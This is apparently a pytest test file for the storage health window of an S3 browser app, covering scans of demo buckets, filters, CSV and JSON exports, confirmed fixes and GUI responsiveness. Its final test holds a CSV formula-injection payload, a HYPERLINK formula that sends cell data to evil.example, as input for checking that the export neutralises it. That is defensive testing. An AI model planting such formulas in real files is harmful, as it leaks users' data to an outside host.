"""The storage health window on a real server: scan, filters, exports, fixes, reveal, responsiveness,
and screenshots of the demo data."""

from __future__ import annotations

import csv
import gc
import json
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from PySide6.QtCore import QSettings, Qt, QTimer
from PySide6.QtGui import QImage
from PySide6.QtWidgets import QApplication, QFileDialog, QTableWidgetItem
from pytestqt.qtbot import QtBot

from ensure_browser.core.health.report import Finding, ScanReport
from ensure_browser.core.s3.storage import Storage
from ensure_browser.core.schema.table import BucketNames
from ensure_browser.demo.seed import SampleObject, seed
from ensure_browser.ui.health.install import register_health_view
from ensure_browser.ui.health.view import FixConfirmDialog, HealthView
from ensure_browser.ui.workers import workers
from tests.support.servers import S3Server

SCREENSHOTS = Path(__file__).resolve().parents[2] / "screenshots" / "health"
LATER = timedelta(days=2)
MULTIPART_KEY = "classrooms/math-7a/materials/unfinished.pdf"


@pytest.fixture(scope="module")
def samples(qapp: QApplication) -> list[SampleObject]:
    from ensure_browser.demo.samples import build_samples
    from ensure_browser.ui.preview.pdf_render import render_pdf_page_png

    return build_samples(render_page=render_pdf_page_png, with_anomalies=True)


def four_buckets(make_bucket: Callable[[str], str]) -> BucketNames:
    return BucketNames(make_bucket("hv-doc"), make_bucket("hv-rec"), make_bucket("hv-ocr"), make_bucket("hv-ml"))


@pytest.fixture
def demo(admin_storage: Storage, make_bucket: Callable[[str], str], samples: list[SampleObject]) -> BucketNames:
    """The demo data set (with its anomalies) in custom-named buckets, plus an unfinished multipart upload."""
    names = four_buckets(make_bucket)
    assert seed(admin_storage, names, samples) == len(samples)
    upload_id = admin_storage.create_multipart(names.documents, MULTIPART_KEY, "application/pdf")
    admin_storage.upload_part(names.documents, MULTIPART_KEY, upload_id, 1, b"%PDF-1.4 partial")
    return names


@pytest.fixture
def view(qtbot: QtBot, admin_storage: Storage, demo: BucketNames) -> HealthView:
    v = HealthView()
    qtbot.addWidget(v)
    v.set_connection(admin_storage, demo)
    v.clock = lambda: datetime.now(UTC) + LATER  # the temporary upload and the multipart upload are stale
    return v


def run_scan(qtbot: QtBot, view: HealthView, timeout: int = 20_000) -> ScanReport:
    with qtbot.waitSignal(view.scanFinished, timeout=timeout) as blocker:
        view.scan_button.click()
    report = blocker.args[0]
    assert isinstance(report, ScanReport)
    return report


def shown_rules(view: HealthView) -> list[str]:
    return [f.rule for f in view.findings_tab.proxy.visible_findings()]


def by_rule(view: HealthView, rule: str) -> Finding:
    return next(f for f in view.findings_tab.model.findings if f.rule == rule)


def test_scan_shows_findings_filters_and_usage(qtbot: QtBot, view: HealthView, demo: BucketNames,
                                               qtmodeltester: object) -> None:
    report = run_scan(qtbot, view)
    rules = sorted(shown_rules(view))
    assert rules == sorted(["chunk_gap", "material_without_thumbnail", "thumbnail_without_material",
                            "stale_temp_upload", "incomplete_multipart_upload"])
    assert view.findings_tab.model.rowCount() == len(report.findings) == 5
    qtmodeltester.check(view.findings_tab.model)  # type: ignore[attr-defined]
    gap = by_rule(view, "chunk_gap")
    assert gap.key == "meetings/bio-8b-2024-03-12/chunks/" and gap.items == (3,)
    assert view.findings_tab.summary.text() == "0 critical, 5 warnings, 0 info"

    view.findings_tab.rule_filter.setCurrentIndex(view.findings_tab.rule_filter.findData("chunk_gap"))
    assert shown_rules(view) == ["chunk_gap"]
    assert "showing 1 of 5" in view.findings_tab.summary.text()
    view.findings_tab.rule_filter.setCurrentIndex(0)
    view.findings_tab.text_filter.setText("MATH-7A")  # case-insensitive over entity, key and message
    assert sorted(shown_rules(view)) == ["incomplete_multipart_upload", "material_without_thumbnail",
                                         "thumbnail_without_material"]
    view.findings_tab.text_filter.clear()
    view.findings_tab.severity_filter.setCurrentIndex(view.findings_tab.severity_filter.findData("critical"))
    assert shown_rules(view) == []
    view.findings_tab.severity_filter.setCurrentIndex(view.findings_tab.severity_filter.findData("warning"))
    assert len(shown_rules(view)) == 5
    view.findings_tab.severity_filter.setCurrentIndex(0)
    # sorting by size (largest first) uses the numbers, not the texts
    view.findings_tab.table.sortByColumn(4, Qt.SortOrder.DescendingOrder)
    sizes = [f.size if f.size is not None else -1 for f in view.findings_tab.proxy.visible_findings()]
    assert sizes == sorted(sizes, reverse=True)

    # the usage tab: bars for classrooms and meetings, totals per bucket plus a total row
    titles = [title for title, _ in view.usage_tab.chart.groups]
    assert titles == ["Largest classrooms", "Largest meetings"]
    meetings = dict((label, size) for label, size, _ in view.usage_tab.chart.groups[1][1])
    assert set(meetings) == {"math-7a-2024-03-11", "bio-8b-2024-03-12"}
    assert meetings == {i: t.bytes for i, t in report.usage.top("meeting")}
    assert view.usage_tab.bucket_table.rowCount() == 5
    cells = {(r, c): (view.usage_tab.bucket_table.item(r, c) or QTableWidgetItem()).text() for r, c in ((0, 0), (4, 2))}
    assert cells == {(0, 0): demo.documents, (4, 2): f"{report.keys_seen:,}"}


def test_export_csv_and_json(qtbot: QtBot, view: HealthView, tmp_path: Path,
                             monkeypatch: pytest.MonkeyPatch) -> None:
    run_scan(qtbot, view)
    view.findings_tab.text_filter.setText("math-7a")
    visible = view.findings_tab.proxy.visible_findings()
    assert len(visible) == 3
    target = {"csv": tmp_path / "f.csv", "json": tmp_path / "f.json"}
    for fmt, button in (("csv", view.findings_tab.csv_button), ("json", view.findings_tab.json_button)):
        monkeypatch.setattr(QFileDialog, "getSaveFileName",
                            staticmethod(lambda *_a, fmt=fmt, **_k: (str(target[fmt]), "")))
        with qtbot.waitSignal(view.exported, timeout=10_000):
            button.click()
    with open(target["csv"], newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert [(r["rule"], r["key"]) for r in rows] == [(f.rule, f.key) for f in visible]
    assert list(rows[0]) == ["severity", "rule", "entity", "bucket", "key", "size", "age_seconds", "message"]
    material = next(r for r in rows if r["rule"] == "material_without_thumbnail")
    assert material["severity"] == "warning" and int(material["size"]) > 1000
    assert float(material["age_seconds"]) >= LATER.total_seconds() - 60
    data = json.loads(target["json"].read_text(encoding="utf-8"))
    assert data["format"] == "ensure-browser-scan"
    assert [(f["rule"], f["key"]) for f in data["findings"]] == [(f.rule, f.key) for f in visible]
    assert data["summary"] == {"critical": 0, "warning": 3, "info": 0}
    assert "Wrote 3 findings" in view.status.text()


def test_fixes_after_confirmation(qtbot: QtBot, view: HealthView, admin_storage: Storage,
                                  demo: BucketNames) -> None:
    run_scan(qtbot, view)
    targets = [by_rule(view, r) for r in ("material_without_thumbnail", "stale_temp_upload",
                                          "incomplete_multipart_upload")]
    temp_keys = [o.key for o in admin_storage.list_recursive(demo.documents, "temp/")]
    assert temp_keys

    # first the user looks at the plan and says no: nothing changes
    view.findings_tab.select_findings(targets)
    assert view.findings_tab.fix_button.isEnabled()
    view.findings_tab.fix_button.click()
    qtbot.waitUntil(lambda: view.fix_dialog is not None and view.fix_dialog.isVisible(), timeout=10_000)
    dialog = view.fix_dialog
    assert isinstance(dialog, FixConfirmDialog)
    text = dialog.steps.toPlainText()
    thumb_key = targets[0].key.replace("/materials/", "/thumbnails/").replace(".pdf", "_thumb.png")
    for key in [thumb_key, MULTIPART_KEY, *temp_keys]:
        assert key in text
    dialog.reject()
    assert "No fixes applied" in view.status.text()
    assert view.findings_tab.model.rowCount() == 5

    # then yes
    view.findings_tab.select_findings(targets)
    view.findings_tab.fix_button.click()
    qtbot.waitUntil(lambda: view.fix_dialog is not None and view.fix_dialog is not dialog
                    and view.fix_dialog.isVisible(), timeout=10_000)
    confirm = view.fix_dialog
    assert confirm is not None
    with qtbot.waitSignal(view.fixFinished, timeout=20_000) as blocker:
        confirm.apply_button.click()
    result = blocker.args[0]
    assert not result.failed
    assert sorted(shown_rules(view)) == ["chunk_gap", "thumbnail_without_material"]
    assert "1 thumbnails regenerated" in view.status.text() and "uploads aborted" in view.status.text()
    stat = admin_storage.stat(demo.documents, thumb_key)
    assert stat.content_type == "image/png"
    image = QImage.fromData(admin_storage.read_range(demo.documents, thumb_key))
    assert image.width() == 320 and image.height() > 320  # page 1 of an A4 material, upload width
    assert list(admin_storage.list_recursive(demo.documents, "temp/")) == []
    assert admin_storage.list_multipart_uploads(demo.documents) == []
    # a new scan agrees
    run_scan(qtbot, view)
    assert sorted(shown_rules(view)) == ["chunk_gap", "thumbnail_without_material"]


def test_a_fix_applies_only_on_the_connection_it_was_scanned_on(
    qtbot: QtBot, view: HealthView, s3_server: S3Server, admin_storage: Storage, demo: BucketNames,
    make_bucket: Callable[[str], str], samples: list[SampleObject],
) -> None:
    other = four_buckets(make_bucket)  # the new connection has the same anomalies in its own buckets
    assert seed(admin_storage, other, samples) == len(samples)
    run_scan(qtbot, view)
    temp_keys = {b: [o.key for o in admin_storage.list_recursive(b, "temp/")] for b in (demo.documents, other.documents)}
    assert all(temp_keys.values())
    view.findings_tab.select_findings([by_rule(view, "stale_temp_upload")])
    view.findings_tab.fix_button.click()
    qtbot.waitUntil(lambda: view.fix_dialog is not None and view.fix_dialog.isVisible(), timeout=10_000)
    dialog = view.fix_dialog
    assert dialog is not None and demo.documents in dialog.steps.toPlainText()

    view.set_connection(s3_server.storage(), other)  # while the confirmation is open
    dialog.apply_button.click()
    assert workers().wait(20_000)
    QApplication.processEvents()
    for bucket, keys in temp_keys.items():
        assert [o.key for o in admin_storage.list_recursive(bucket, "temp/")] == keys
    assert "connection changed after the scan: nothing was changed" in view.status.text()
    # a scan on the new connection can be fixed there
    run_scan(qtbot, view)
    view.findings_tab.select_findings([by_rule(view, "stale_temp_upload")])
    view.findings_tab.fix_button.click()
    qtbot.waitUntil(lambda: view.fix_dialog is not None and view.fix_dialog is not dialog
                    and view.fix_dialog.isVisible(), timeout=10_000)
    confirm = view.fix_dialog
    assert confirm is not None and other.documents in confirm.steps.toPlainText()
    with qtbot.waitSignal(view.fixFinished, timeout=20_000):
        confirm.apply_button.click()
    assert list(admin_storage.list_recursive(other.documents, "temp/")) == []
    assert [o.key for o in admin_storage.list_recursive(demo.documents, "temp/")] == temp_keys[demo.documents]


def test_reveal_in_tree(qtbot: QtBot, s3_server: S3Server, demo: BucketNames, tmp_path: Path) -> None:
    from ensure_browser.ui.main_window import Connection, MainWindow

    window = MainWindow(QSettings(str(tmp_path / "settings.ini"), QSettings.Format.IniFormat))
    qtbot.addWidget(window)
    action = register_health_view(window)
    assert action in window.view_menu.actions() and action.shortcut().toString() == "Ctrl+Shift+H"
    with qtbot.waitSignal(window.connected, timeout=15_000):
        window.connect_to(Connection(label="test", settings=s3_server.settings(), names=demo))
    window.show()
    action.trigger()
    view = window.findChild(HealthView, "health-view")
    assert isinstance(view, HealthView) and view.isVisible() and view.storage is not None
    report = run_scan(qtbot, view)
    gap = next(f for f in report.findings if f.rule == "chunk_gap")
    view.findings_tab.select_findings([gap])
    assert view.findings_tab.reveal_button.isEnabled()
    view.findings_tab.reveal_button.click()  # through the location bar, one level at a time

    def revealed() -> bool:
        node = window.tree_panel.current_node()
        return node is not None and node.key == gap.key and node.bucket == demo.recordings

    qtbot.waitUntil(revealed, timeout=15_000)
    # a finding about an object: the object itself is selected
    material = next(f for f in report.findings if f.rule == "material_without_thumbnail")
    view.findings_tab.select_findings([material])
    view.reveal_selected()
    qtbot.waitUntil(lambda: (window.tree_panel.current_node() or gap).key == material.key, timeout=15_000)
    view.close()
    qtbot.waitUntil(lambda: not workers().active(), timeout=15_000)  # the tree's thumbnails load


@pytest.fixture
def many_keys(admin_storage: Storage, make_bucket: Callable[[str], str]) -> BucketNames:
    """3,000 MLflow artifacts in a few runs."""
    names = four_buckets(make_bucket)
    keys = [f"{i % 3}/run{i % 7}/artifacts/step-{i:05d}.json" for i in range(3000)]
    with ThreadPoolExecutor(8) as pool:
        list(pool.map(lambda k: admin_storage.upload_bytes(names.mlflow, k, b"{}"), keys))
    return names


def scan_with_heartbeat(qtbot: QtBot, view: HealthView) -> tuple[ScanReport, float]:
    """Scan with a 10 ms timer ticking on the GUI thread; returns the report and the longest gap."""
    ticks: list[float] = []
    heartbeat = QTimer()
    heartbeat.setInterval(10)
    heartbeat.timeout.connect(lambda: ticks.append(time.perf_counter()))
    # A full (generation 2) garbage collection holds the GIL for as long as the heap is big: in this
    # pytest process, about 25 ms whichever thread triggers it. That is the process's heap, not the
    # scan; freeze what exists now (as an application can after start-up) so the measurement is the scan's.
    gc.collect()
    gc.freeze()
    heartbeat.start()
    try:
        with qtbot.waitSignal(view.scanFinished, timeout=30_000) as blocker:
            view.start_scan()
            assert view.cancel_button.isEnabled() and not view.scan_button.isEnabled()
    finally:
        heartbeat.stop()
        gc.unfreeze()
    assert len(ticks) > 5  # the scan lasted long enough to say something
    return blocker.args[0], max(b - a for a, b in zip(ticks, ticks[1:], strict=False))


def test_gui_stays_responsive_during_a_scan(qtbot: QtBot, admin_storage: Storage, many_keys: BucketNames) -> None:
    view = HealthView()
    qtbot.addWidget(view)
    view.set_connection(admin_storage, many_keys)
    view.show()
    report, stalls = None, []
    for _attempt in range(3):  # on a shared, loaded machine the OS may starve the process once in a while
        report, stall = scan_with_heartbeat(qtbot, view)
        stalls.append(round(stall * 1000, 1))
        if stall < 0.050:
            break
    assert report is not None and report.keys_seen == 3000
    assert sorted(report.usage.entities["experiment"]) == ["0", "1", "2"]
    assert min(stalls) < 50, f"the GUI stalled during every scan (longest gaps in ms: {stalls})"

    # Cancel: the table keeps the last report, the buttons come back
    view.start_scan()
    view.cancel_button.click()
    qtbot.waitUntil(lambda: not view.scanning, timeout=10_000)
    assert view.status.text() == "The scan was cancelled."
    assert view.scan_button.isEnabled() and not view.cancel_button.isEnabled()
    assert view.report is report


def test_screenshots_of_the_demo_data(qtbot: QtBot, view: HealthView) -> None:
    view.resize(1180, 640)
    view.show()
    qtbot.waitExposed(view)
    run_scan(qtbot, view)
    view.findings_tab.table.sortByColumn(0, Qt.SortOrder.AscendingOrder)
    view.findings_tab.select_findings([by_rule(view, "material_without_thumbnail")])
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    QApplication.processEvents()
    assert view.grab().save(str(SCREENSHOTS / "findings.png"))
    view.tabs.setCurrentIndex(1)
    QApplication.processEvents()
    assert view.grab().save(str(SCREENSHOTS / "usage.png"))
    assert QImage(str(SCREENSHOTS / "usage.png")).width() >= 1000


@pytest.fixture(autouse=True)
def _close_windows() -> Iterator[None]:
    yield
    for widget in QApplication.topLevelWidgets():
        if isinstance(widget, FixConfirmDialog):
            widget.close()


def test_the_csv_export_shows_formulas_in_server_keys_as_text(tmp_path: Path) -> None:
    """A key (or a message quoting it) a spreadsheet would run as a formula starts with an
    apostrophe in the CSV, as the share links' CSV does (one function: safe_text.csv_cell)."""
    from ensure_browser.core.health.report import Finding
    from ensure_browser.ui.health.view import write_csv

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    finding = Finding("warning", "orphan_object", "object", "docs", hostile, "@SUM(1+1)\nline two", size=3)
    path = tmp_path / "f.csv"
    write_csv(path, [finding])
    with open(path, newline="", encoding="utf-8") as fh:
        (row,) = list(csv.DictReader(fh))
    assert row["key"] == "'" + hostile
    assert row["message"] == "'@SUM(1+1)\\nline two"
    assert row["size"] == "3" and row["age_seconds"] == "" and row["bucket"] == "docs"
